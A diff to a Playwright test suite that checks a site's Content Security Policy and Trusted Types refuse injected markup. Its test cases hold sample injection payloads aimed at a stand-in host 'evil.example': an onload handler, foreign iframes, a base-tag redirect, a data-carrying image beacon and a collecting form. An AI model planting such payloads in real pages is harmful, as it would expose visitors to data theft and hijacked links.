@@ -31,7 +31,7 @@ test.describe('what was written into the page is refused:', { tag: '@desktop' },
     [
       'an event handler',
       'script-src-attr',
-      '<img src="/icone.svg" alt="" onload="window.injected = true">',
+      '<img src="/icones/icone.svg" alt="" onload="window.injected = true">',
     ],
     [
       'a script of another origin',
@@ -42,12 +42,17 @@ test.describe('what was written into the page is refused:', { tag: '@desktop' },
     ['a style attribute', 'style-src-attr', '<p style="position: fixed; inset: 0">Oferta</p>'],
     ['a frame of another origin', 'frame-src', '<iframe src="https://evil.example/"></iframe>'],
     [
+      'a frame of Google that is no map',
+      'frame-src',
+      '<iframe src="https://www.google.com/search?q=barbearia"></iframe>',
+    ],
+    [
       'a picture that carries data out',
       'img-src',
       '<img src="https://evil.example/?visit" alt="">',
     ],
     ['another base for every link', 'base-uri', '<base href="https://evil.example/">'],
-    ['a plugin', 'object-src', '<object data="/icone.svg"></object>'],
+    ['a plugin', 'object-src', '<object data="/icones/icone.svg"></object>'],
   ] as const;
 
   for (const [name, directive, html] of attacks) {
@@ -62,8 +67,9 @@ test.describe('what was written into the page is refused:', { tag: '@desktop' },
   test('a form that collects', async ({ page }) => {
     await openWith(
       page,
-      '<form action="https://evil.example/"><button id="send">Ok</button></form>',
+      '<form action="https://evil.example/" target="_blank"><button id="send">Ok</button></form>',
     );
+    // In a tab of its own: Chromium's shell waits forever for a visit that it has stopped itself.
     await page.locator('#send').click();
     await expect.poll(() => violations(page)).toContain('form-action');
     expect(page.url()).not.toContain('evil.example');
@@ -94,16 +100,23 @@ test.describe('what was written into the page is refused:', { tag: '@desktop' },
           return error instanceof TypeError;
         }
       };
+      const addresses = [
+        '/_next/static/a.js',
+        '/_next/static/../a.js',
+        '/fotos/a.js',
+        'https://evil.example/_next/static/a.js',
+        'data:text/javascript,1',
+        `blob:${location.origin}/_next/static/a.js`,
+      ];
       return {
         markup: throwsTypeError(() => {
           document.createElement('div').innerHTML = '<img alt="">';
         }),
-        foreignScript: throwsTypeError(() => {
-          document.createElement('script').src = 'https://evil.example/a.js';
-        }),
-        ownScript: throwsTypeError(() => {
-          document.createElement('script').src = '/_next/static/a.js';
-        }),
+        scripts: addresses.filter((src) =>
+          throwsTypeError(() => {
+            document.createElement('script').src = src;
+          }),
+        ).length,
         secondPolicy: throwsTypeError(() => {
           window.trustedTypes?.createPolicy('default', {
             createHTML: (html) => html,
@@ -114,8 +127,7 @@ test.describe('what was written into the page is refused:', { tag: '@desktop' },
     });
     expect(refused).toEqual({
       markup: true,
-      foreignScript: true,
-      ownScript: false,
+      scripts: 5, // All but the first.
       secondPolicy: true,
     });
   });
